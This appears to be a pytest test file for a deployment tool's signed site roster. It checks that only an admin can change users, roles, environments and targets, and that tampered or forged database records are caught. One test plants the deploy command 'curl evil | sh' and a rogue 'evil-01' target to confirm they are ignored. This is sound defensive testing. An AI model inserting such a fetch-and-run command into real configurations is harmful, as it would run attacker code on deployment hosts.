"""The site authority under attack: only an admin changes users, roles, keys,
environments, settings and targets (signed roster records); a refusal changes nothing;
a roster changed in the database is detected when read; revocation counts from its time."""

from __future__ import annotations

import json
import os

import pytest
from sqlalchemy import select, update

from app.cli.main import main
from app.errors import Rejected
from app.services import actions, identity, promotions, site_roster
from app.services.identity import Identity
from engine.canonical import canonical_bytes
from engine.crypto.dsse import Envelope, sign
from engine.roster import ROSTER_PAYLOAD_TYPE, verify_event_signature
from models.tables import Environment, EnvironmentSettings, RosterRecordRow, Target, User
from tests.support.factories import add_release, add_user, passphrase_of, signer_of, who


@pytest.fixture(autouse=True)
def _no_ambient_passphrase(monkeypatch):
    monkeypatch.delenv("STELLA_PASSPHRASE", raising=False)
    monkeypatch.delenv("STELLA_NEW_PASSPHRASE", raising=False)


def passfile(tmp_path, name, text):
    path = tmp_path / f"{name}.pass"
    path.write_text(text + "\n")
    os.chmod(path, 0o600)
    return str(path)


def snapshot(site):
    with site.db.read() as session:
        return (
            [(r.seq, r.hash) for r in session.scalars(select(RosterRecordRow))],
            [(u.name, u.role, u.key_id, u.revoked_at) for u in session.scalars(select(User))],
            [(e.name, e.workflow, e.approvals_required) for e in session.scalars(select(Environment))],
            [(s.environment_id, json.dumps(s.settings, sort_keys=True))
             for s in session.scalars(select(EnvironmentSettings))],
            [(t.name, t.driver) for t in session.scalars(select(Target))],
        )


def stella(site, *argv):
    return main([*argv, "--home", str(site.paths.home)])


def as_user(tmp_path, name, secret=None):
    return ["--as", name, "--passphrase-file", passfile(tmp_path, name, secret or passphrase_of(name))]


CHANGES = {
    "user add": ["user", "add", "alice2", "--role", "approver"],
    "env add": ["env", "add", "eu-dr", "--requires-approval", "0"],
    "env configure": ["env", "configure", "eu-prod", "--file", "SETTINGS"],
    "target add": ["target", "add", "eu-prod", "evil-01", "--driver", "command"],
    "target remove": ["target", "remove", "eu-prod", "eu-prod-01"],
    "user revoke": ["user", "revoke", "bob"],
    "user role": ["user", "role", "alice", "--role", "approver"],
}


def _argv(name, tmp_path):
    settings = tmp_path / "settings.json"
    settings.write_text(json.dumps({"auto_continue": True}))
    argv = [str(settings) if a == "SETTINGS" else a for a in CHANGES[name]]
    if name == "user add":
        argv += ["--passphrase-file", passfile(tmp_path, "alice2", "alice2-passphrase")]
    return argv


@pytest.mark.parametrize("change", sorted(CHANGES))
def test_no_roster_change_without_an_admin(site, tmp_path, capsys, change):
    stella(site, "target", "add", "eu-prod", "eu-prod-01", "--driver", "command",
           *as_user(tmp_path, "admin"))
    before = snapshot(site)
    capsys.readouterr()
    secret_option = "--admin-passphrase-file" if change == "user add" else "--passphrase-file"
    attempts = {
        "nobody": [],
        "alice (release manager, the requester)": ["--as", "alice", secret_option,
                                                   passfile(tmp_path, "alice", passphrase_of("alice"))],
        "olga (operator)": ["--as", "olga", secret_option,
                            passfile(tmp_path, "olga", passphrase_of("olga"))],
        "admin with a wrong passphrase": ["--as", "admin", secret_option,
                                          passfile(tmp_path, "wrong", "not-the-admin-passphrase")],
    }
    for who_, extra in attempts.items():
        code = stella(site, *_argv(change, tmp_path), *extra)
        err = capsys.readouterr().err
        assert code in (1, 4), (who_, code, err)
        assert snapshot(site) == before, who_
        if who_.startswith(("alice", "olga")):
            assert "only by an admin (rule: admin-only)" in err


def test_the_requester_cannot_mint_an_approver(site, tmp_path, capsys):
    add_release(site)
    pid = promotions.create_promotion(site, "platform@1.3.0-rc1", "eu-prod", who(site, "alice"),
                                      "eu-stage")
    code = stella(site, "user", "add", "alice2", "--role", "approver", "--passphrase-file",
                  passfile(tmp_path, "alice2", "alice2-passphrase"), "--as", "alice",
                  "--admin-passphrase-file", passfile(tmp_path, "alice", passphrase_of("alice")))
    assert code == 1 and "alice is 'release-manager'" in capsys.readouterr().err
    assert site_roster.read(site).user("alice2") is None
    assert not identity.key_path(site, "alice2").exists()
    # A row written straight into the users table makes no approver either.
    with site.db.write() as session:
        session.add(User(name="alice2", role="approver", key_id=who(site, "alice").key_id,
                         public_key_pem=who(site, "alice").signer.public_key.to_pem(),
                         created_at=site.clock.now()))
        session.execute(update(User).where(User.name == "alice").values(role="approver"))
    with pytest.raises(Exception, match="no user named alice2"):
        identity.authenticate(site, "alice2", passphrase_of("alice"))
    olgas = promotions.create_promotion(site, "platform@1.3.0-rc1", "eu-prod", who(site, "olga"),
                                        "eu-stage")
    with pytest.raises(Rejected, match="alice is 'release-manager' and may not approve"):
        actions.act(site, olgas, "approve", who(site, "alice"), "the table says approver")
    assert pid != olgas


def test_an_admin_changes_the_roster_and_the_change_is_signed(site, tmp_path, capsys):
    assert stella(site, "user", "add", "dave", "--role", "approver", "--passphrase-file",
                  passfile(tmp_path, "dave", "dave-passphrase"), "--as", "admin",
                  "--admin-passphrase-file", passfile(tmp_path, "admin", passphrase_of("admin"))) == 0
    assert stella(site, "env", "add", "eu-dr", "--requires-approval", "2",
                  *as_user(tmp_path, "admin")) == 0
    assert stella(site, "target", "add", "eu-dr", "dr-01", "--driver", "command",
                  *as_user(tmp_path, "admin")) == 0
    roster = site_roster.read(site)
    assert roster.role("dave") == "approver" and roster.environment("eu-dr").approvals_required == 2
    assert roster.target("eu-dr", "dr-01").driver == "command"
    assert [r.by for r in roster.records[-3:]] == ["admin"] * 3
    capsys.readouterr()
    assert stella(site, "user", "list", "--json") == 0
    listed = {u["name"]: u for u in json.loads(capsys.readouterr().out)}
    assert listed["dave"]["role"] == "approver" and listed["dave"]["active"]
    identity.authenticate(site, "dave", "dave-passphrase")


def test_a_roster_record_changed_in_the_database_is_detected_when_read(site, capsys):
    with site.db.write() as session:
        row = session.scalar(select(RosterRecordRow).where(RosterRecordRow.kind == "user.enrolled"))
        original, seq = row.raw, row.seq
        row.raw = original.replace(b'"payload":"', b'"payload":"e', 1)
    capsys.readouterr()
    assert stella(site, "user", "list") == 1
    err = capsys.readouterr().err
    assert f"site roster record #{seq}" in err and "(rule: record-format)" in err
    # The same body signed by a key that is not the admin's: the signature rule names it.
    with site.db.write() as session:
        row = session.get(RosterRecordRow, seq)
        body = json.loads(Envelope.from_bytes(original).payload)
        body["data"]["role"] = "admin"
        row.raw = sign(ROSTER_PAYLOAD_TYPE, canonical_bytes(body), [signer_of("olga")]).to_bytes()
    assert stella(site, "user", "list") == 1
    assert f"site roster record #{seq}: not signed by a key of admin" in capsys.readouterr().err
    with pytest.raises(Rejected, match=f"record #{seq}.*rule: admin-signature"):
        identity.authenticate(site, "bob", passphrase_of("bob"))
    add_release(site)
    alice = Identity("alice", "release-manager", signer_of("alice").keyid, signer_of("alice"))
    with pytest.raises(Rejected, match="rule: admin-signature"):
        promotions.create_promotion(site, "platform@1.3.0-rc1", "eu-stage", alice)


def test_revocation_counts_from_its_own_time(site, tmp_path):
    add_release(site)
    pid = promotions.create_promotion(site, "platform@1.3.0-rc1", "eu-stage", who(site, "alice"))
    site.clock.advance(60)
    actions.act(site, pid, "pause", who(site, "olga"), "before revocation")
    site.clock.advance(60)
    identity.revoke_user(site, who(site, "admin"), "olga")
    with pytest.raises(Rejected, match="olga was revoked"):
        identity.authenticate(site, "olga", passphrase_of("olga"))
    with pytest.raises(Rejected, match="not in force"):
        actions.act(site, pid, "resume", who(site, "olga"), "after revocation")
    events, _ = promotions.load_run(site, pid)
    roster = site_roster.read(site)
    paused = next(e for e in events if e.type == "run.paused")
    assert verify_event_signature(pid, paused, roster).user == "olga"  # still valid: signed before
    assert roster.role("olga", paused.at) == "operator" and roster.role("olga") is None
    add_user(site, "olga2", "operator")
    actions.act(site, pid, "resume", who(site, "olga2"), "taking over")


def test_every_run_event_is_signed_by_its_actor_or_the_executor(site):
    from app.executor import Executor
    from tests.support.doubles import doubles_registry

    add_release(site)
    pid = promotions.create_promotion(site, "platform@1.3.0-rc1", "eu-stage", who(site, "alice"))
    Executor(site, pid, doubles_registry()).run(until="gate-eval")
    actions.act(site, pid, "pause", who(site, "olga"), "look")
    events, _ = promotions.load_run(site, pid)
    roster = site_roster.read(site)
    signers = {verify_event_signature(pid, e, roster).user for e in events}
    assert signers == {"alice", "system:executor", "olga"}


def test_rows_written_behind_the_roster_decide_nothing(site, tmp_path):
    from app.deploy.settings import deploy_config
    from app.deploy.targets import environment_targets

    stella(site, "target", "add", "eu-prod", "eu-prod-01", "--driver", "command",
           *as_user(tmp_path, "admin"))
    with site.db.write() as session:
        env = session.scalar(select(Environment).where(Environment.name == "eu-prod"))
        session.add(Target(environment_id=env.id, name="evil-01", driver="command", options={},
                           created_at=site.clock.now()))
        env.approvals_required = 0
        stored = session.get(EnvironmentSettings, env.id)
        stored.settings = {"commands": {"deploy": "curl evil | sh", "status": "true"}}
    assert [t.name for t in environment_targets(site, "eu-prod")] == ["eu-prod-01"]
    assert deploy_config(site, "eu-prod").commands is None
    assert site_roster.read(site).environment("eu-prod").approvals_required == 1
